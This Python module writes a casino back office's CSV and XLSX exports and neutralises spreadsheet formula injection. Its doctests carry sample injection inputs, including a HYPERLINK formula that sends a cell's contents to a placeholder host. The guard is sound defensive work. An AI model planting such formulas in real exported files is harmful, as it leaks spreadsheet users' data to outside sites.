"""Every file of rows the back office hands out (CSV and XLSX) is written here, and only here.

An export is built as typed rows (``Export``: heading lines, then ``Sheet`` s whose
``Column`` s say what each cell is) in the active language (the venue's, or the one the
reader asked for: ``file_language``, the one rule of an export's language), and
written by ``csv_bytes`` / ``xlsx_bytes`` or answered by ``csv_response`` /
``xlsx_response``. The rules every export keeps, so no view can forget one:

- **Text never runs.** Names, reasons and notes are typed by people, so a text cell a
  spreadsheet would take for a formula (OWASP "CSV injection": a leading ``=``, ``+``,
  ``-``, ``@``, tab, carriage return, line feed or NUL, the full-width ``＝ ＋ － ＠`` an
  Asian keyboard types, or any of them after leading spaces) is written after a ``'`` in
  a CSV, and in an XLSX as a string with Excel's own quote prefix (what Excel records when
  one types ``'`` first), so it reads as typed.
- **Numbers are numbers, one format a column.** Money is written with the currency's
  decimals (VND ``7060000``, MOP ``1234.50``), more only where a column holds an amount
  that has them (no digit of money is hidden: then the whole column has them); a figure
  computed from amounts (an average bet, a theoretical win) is rounded half up to the
  currency's decimals; a percentage has two decimals, a count none, a rate the digits it
  needs. ``.`` is the decimal mark, nothing groups thousands, ``-`` leads a negative: what
  every spreadsheet reads as a number whatever its locale's grouping. An XLSX stores them
  as numbers with a number format of those decimals.
- **Excel reads the letters.** A CSV starts with a UTF-8 byte order mark ("Hà Nội",
  Korean names); times are the venue's (``Export.zone``), written ``YYYY-MM-DD HH:MM``.
- **One language, said.** A file speaks the venue's language, or the reader's when the
  link asks it (``?lang=reader``; ``?lang=venue`` the venue's); without either, a filed
  copy (a shift report's stored files) is the venue's and any other file follows the
  pages (the reader's pick, else the venue's). ``file_language`` applies it and answers
  the language, which the view hands to the answer (``download``'s ``language``, said
  as its ``Content-Language``); a marked view whose file says no language fails. The
  language's rule and the mark are ``casino/export_views.py``'s.
- **One way out.** A view that answers a file is marked ``@export_view``, and
  tests/casino/test_exports.py requests every marked route with hostile text in every
  field a person writes and fails on a cell a spreadsheet would run; no other module
  writes CSV or XLSX (the same test reads the sources).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, tzinfo
from decimal import ROUND_HALF_UP, Decimal, InvalidOperation
from enum import StrEnum
from typing import Any

from django.http import HttpResponse
from django.utils.http import content_disposition_header
from django.utils.translation import gettext as _

from casino.kernel.money import currency_places

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


# The formula guard

#: Signs a spreadsheet starts a formula with, the full-width ones an IME types included.
FORMULA_SIGNS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\u2212")
#: Characters that make a cell a formula (or hide one) by leading it.
FORMULA_LEADS = frozenset("\t\r\n\0")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula.

    >>> [is_formula_like(t) for t in ("=1+1", "-2", "@SUM(A1)", "\\tx", "  =1", "\\uff1d1")]
    [True, True, True, True, True, True]
    >>> [is_formula_like(t) for t in ("Hà Nội", "VIP-1", "", "'=1")]
    [False, False, False, False]
    """
    return text[:1] in FORMULA_LEADS or text.lstrip()[:1] in FORMULA_SIGNS


def guarded(text: str) -> str:
    """Text for a CSV cell that no spreadsheet runs: a ``'`` before what could be a formula.

    >>> guarded('=HYPERLINK("http://x/?"&A1,"y")'), guarded("@SUM(1+1)"), guarded("Macau")
    ('\\'=HYPERLINK("http://x/?"&A1,"y")', "'@SUM(1+1)", 'Macau')
    """
    return f"'{text}" if is_formula_like(text) else text


# Typed rows


class Kind(StrEnum):
    """What a column (or a heading's cell) holds, which decides how it is written."""

    TEXT = "text"
    #: An amount of the export's currency: its decimals, more where the column has them.
    MONEY = "money"
    #: A quotient or product of amounts: rounded half up to the currency's decimals.
    COMPUTED = "computed"
    #: Two decimals (``12.50`` for 12.5%).
    PERCENT = "percent"
    #: A whole number.
    COUNT = "count"
    #: Odds, a multiple: the digits it has (the most of its column).
    RATE = "rate"


@dataclass(frozen=True)
class Column:
    header: Any  # a (lazy) translated string
    kind: Kind = Kind.TEXT


@dataclass(frozen=True)
class Cell:
    """A heading's cell that is a number (a heading's bare ``str`` is text)."""

    value: Any
    kind: Kind

    def __post_init__(self) -> None:
        if self.kind is Kind.TEXT:
            raise ValueError("a heading's text is a str, not a Cell")


@dataclass
class Sheet:
    """A table: a sheet of an XLSX, a block of a CSV (after ``[title]`` when there are more)."""

    title: Any
    columns: Sequence[Column]
    rows: Iterable[Sequence[Any]]


@dataclass
class Export:
    """A file's content: heading lines (text, ``Cell`` s), then its sheets.

    ``currency`` decides the decimals of money, ``zone`` the clock times are written on.
    """

    currency: str
    zone: tzinfo = UTC
    heading: Sequence[Sequence[Any]] = ()
    sheets: list[Sheet] = field(default_factory=list)


def _decimal(value: Any) -> Decimal:
    if isinstance(value, bool | float):
        raise TypeError(f"a number cell holds {value!r}: Decimal, int or digits only")
    try:
        number = value if isinstance(value, Decimal) else Decimal(str(value).strip())
    except InvalidOperation:
        raise TypeError(f"a number cell holds {value!r}, which is no number") from None
    if not number.is_finite():
        raise TypeError(f"a number cell holds {value!r}, which is no number")
    return number


def _places_needed(number: Decimal) -> int:
    exponent = number.normalize().as_tuple().exponent
    return max(0, -exponent) if isinstance(exponent, int) else 0


def _fixed(kind: Kind, currency: str) -> int | None:
    """The decimals a kind always has (None: the digits its values need)."""
    if kind is Kind.COMPUTED:
        return currency_places(currency)
    if kind is Kind.PERCENT:
        return 2
    if kind is Kind.COUNT:
        return 0
    return None


def column_places(kind: Kind, currency: str, values: Iterable[Any]) -> int:
    """The decimals of a number column: fixed by its kind, or (money, rates) the least its
    kind has (the currency's for money) widened to what any of its values needs.

    >>> column_places(Kind.MONEY, "VND", ["196960000.00", 7060000])
    0
    >>> column_places(Kind.MONEY, "VND", ["1000.50", 7]), column_places(Kind.MONEY, "MOP", [1])
    (1, 2)
    >>> column_places(Kind.COMPUTED, "VND", ["479411.76"]), column_places(Kind.RATE, "", ["0.95"])
    (0, 2)
    """
    fixed = _fixed(kind, currency)
    if fixed is not None:
        return fixed
    least = currency_places(currency) if kind is Kind.MONEY else 0
    needed = [_places_needed(_decimal(v)) for v in values if v is not None and v != ""]
    return max([least, *needed])


def number_at(value: Any, places: int) -> Decimal:
    """``value`` with exactly ``places`` decimals, rounded half up where it has more.

    >>> number_at("196960000.00", 0), number_at(7060000, 2), number_at("-0.004", 2)
    (Decimal('196960000'), Decimal('7060000.00'), Decimal('0.00'))
    """
    number = _decimal(value).quantize(Decimal(1).scaleb(-places), rounding=ROUND_HALF_UP)
    return number if number else abs(number)


def _text(value: Any, zone: tzinfo) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(_("yes") if value else _("no"))
    if isinstance(value, datetime):
        if value.tzinfo is not None:
            value = value.astimezone(zone)
        return f"{value:%Y-%m-%d %H:%M}"
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


@dataclass(frozen=True)
class _Written:
    """A cell ready for a writer: text (the guard not yet applied) or a fixed number."""

    value: str | Decimal | None
    places: int | None = None  # a number's decimals


def _sheet_cells(sheet: Sheet, export: Export) -> tuple[list[str], list[list[_Written]]]:
    rows = [list(row) for row in sheet.rows]
    width = len(sheet.columns)
    for row in rows:
        if len(row) != width:
            raise ValueError(f"a row of {sheet.title!s} has {len(row)} cells, not {width}")
    cells: list[list[_Written]] = [[] for _row in rows]
    for index, column in enumerate(sheet.columns):
        values = [row[index] for row in rows]
        if column.kind is Kind.TEXT:
            for out, value in zip(cells, values, strict=True):
                out.append(_Written(_text(value, export.zone)))
            continue
        places = column_places(column.kind, export.currency, values)
        for out, value in zip(cells, values, strict=True):
            blank = value is None or value == ""
            out.append(_Written(None if blank else number_at(value, places), places))
    return [str(column.header) for column in sheet.columns], cells


def _heading_cells(export: Export) -> list[list[_Written]]:
    lines = []
    for line in export.heading:
        out = []
        for cell in line:
            if isinstance(cell, Cell):
                if cell.value is None or cell.value == "":
                    out.append(_Written(None))
                    continue
                places = column_places(cell.kind, export.currency, [cell.value])
                out.append(_Written(number_at(cell.value, places), places))
            elif isinstance(cell, int | Decimal) and not isinstance(cell, bool):
                raise TypeError(f"a heading's number {cell!r} needs a Cell saying its kind")
            else:
                out.append(_Written(_text(cell, export.zone)))
        lines.append(out)
    return lines


# CSV


def _csv_cell(cell: _Written) -> str:
    if cell.value is None:
        return ""
    if isinstance(cell.value, Decimal):
        return f"{cell.value:f}"
    return guarded(cell.value)


def csv_bytes(export: Export) -> bytes:
    """The export as CSV in UTF-8 with a byte order mark: the heading lines, then each
    sheet's header and rows (after a blank line and ``[title]`` when there are several)."""
    buffer = io.StringIO()
    # RFC 4180's line ends: a cell holding a carriage return or a line feed is quoted.
    writer = csv.writer(buffer, lineterminator="\r\n")
    for line in _heading_cells(export):
        writer.writerow([_csv_cell(cell) for cell in line])
    several = len(export.sheets) > 1
    for sheet in export.sheets:
        headers, rows = _sheet_cells(sheet, export)
        if several:
            writer.writerow([])
            writer.writerow([guarded(f"[{sheet.title}]")])
        writer.writerow([guarded(header) for header in headers])
        for row in rows:
            writer.writerow([_csv_cell(cell) for cell in row])
    # The byte order mark tells Excel the file is UTF-8 (without it, "Hà Nội" is garbled).
    return buffer.getvalue().encode("utf-8-sig")


# XLSX

#: What Excel refuses in a sheet's name.
SHEET_NAME_REFUSED = str.maketrans({c: "-" for c in "[]:*?/\\"})


def sheet_name(title: str, taken: set[str]) -> str:
    """A sheet's name from a title: at most 31 characters, none Excel refuses, unique.

    >>> sheet_name("Bets: tables / hours", set()), sheet_name("Tables", {"Tables"})
    ('Bets- tables - hours', 'Tables 2')
    """
    name = title.translate(SHEET_NAME_REFUSED)[:31]
    number = 2
    while name.lower() in {t.lower() for t in taken}:
        name = f"{title.translate(SHEET_NAME_REFUSED)[:28]} {number}"
        number += 1
    taken.add(name)
    return name


def number_format(places: int) -> str:
    """The XLSX format of a number with ``places`` decimals.

    >>> number_format(0), number_format(2)
    ('#,##0', '#,##0.00')
    """
    return "#,##0" + ("." + "0" * places if places else "")


def _xlsx_row(sheet: Any, row: list[_Written]) -> None:
    sheet.append([cell.value for cell in row])
    number = sheet.max_row
    for column, cell in enumerate(row, start=1):
        target = sheet.cell(row=number, column=column)
        if isinstance(cell.value, str):
            # openpyxl stores a string starting with "=" as a formula: never, here.
            target.data_type = "s"
            target.quotePrefix = is_formula_like(cell.value)
        elif isinstance(cell.value, Decimal):
            target.number_format = number_format(cell.places or 0)


def xlsx_bytes(export: Export) -> bytes:
    """The export as XLSX: a sheet per ``Sheet`` (header in bold on its first row), the
    heading lines above the first one's table."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    workbook = Workbook()
    workbook.remove(workbook.active)
    bold = Font(bold=True)
    taken: set[str] = set()
    heading = _heading_cells(export)
    if not export.sheets:
        raise ValueError("an XLSX export needs a sheet")
    for index, sheet in enumerate(export.sheets):
        out = workbook.create_sheet(sheet_name(str(sheet.title), taken))
        if index == 0 and heading:
            for line in heading:
                _xlsx_row(out, line)
            out.append([])
        headers, rows = _sheet_cells(sheet, export)
        _xlsx_row(out, [_Written(header) for header in headers])
        for cell in out[out.max_row]:
            cell.font = bold
        header_row = out.max_row
        for row in rows:
            _xlsx_row(out, row)
        for column, header in enumerate(headers, start=1):
            letter = out.cell(row=header_row, column=column).column_letter
            out.column_dimensions[letter].width = max(10, min(40, len(header) + 4))
        if header_row == 1:
            out.freeze_panes = "B2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# Answers


def filename(name: str) -> str:
    """A file's name with only letters, digits, ``-``, ``_`` and ``.`` (any other sign a
    ``-``): nothing a browser or a shell reads as a path or a quote.

    >>> filename('=HYPERLINK("x")/Hà Nội 2026-11-28.csv')
    '-HYPERLINK--x---Hà-Nội-2026-11-28.csv'
    """
    return re.sub(r"[^\w.-]", "-", name)


def download(content: bytes, name: str, content_type: str, *, language: str) -> HttpResponse:
    """A file to save as ``name`` (``filename``; RFC 6266, so a Vietnamese or Korean name
    arrives as written), kept by no shared cache, in ``language`` (``file_language``'s
    answer), which its ``Content-Language`` says."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = content_disposition_header(True, filename(name))
    response["Content-Language"] = language
    response["Cache-Control"] = "private, no-cache"
    return response


def csv_response(export: Export, name: str, *, language: str) -> HttpResponse:
    return download(csv_bytes(export), name, CONTENT_TYPES["csv"], language=language)


def xlsx_response(export: Export, name: str, *, language: str) -> HttpResponse:
    return download(xlsx_bytes(export), name, CONTENT_TYPES["xlsx"], language=language)


def pdf_bytes(template: str, context: dict[str, Any]) -> bytes:
    """A template rendered in the active language and printed as a PDF (WeasyPrint, loaded
    on the first PDF a process writes)."""
    from django.template.loader import render_to_string
    from weasyprint import HTML

    return HTML(string=render_to_string(template, context)).write_pdf()


#: The files a report is offered as (``report_file``).
REPORT_FILES = ("csv", "pdf", "xlsx")


def report_file(
    name: str,
    filename: str,
    found: Any,
    *,
    export: Callable[[Any], Export],
    pdf: Callable[[Any], bytes],
    language: str,
) -> HttpResponse:
    """``found`` as the file ``name`` asks for (one of ``REPORT_FILES``), in ``language``:
    its ``export`` as CSV or XLSX, else its ``pdf``; only that one is built."""
    if name == "csv":
        return csv_response(export(found), filename, language=language)
    if name == "xlsx":
        return xlsx_response(export(found), filename, language=language)
    return download(pdf(found), filename, "application/pdf", language=language)
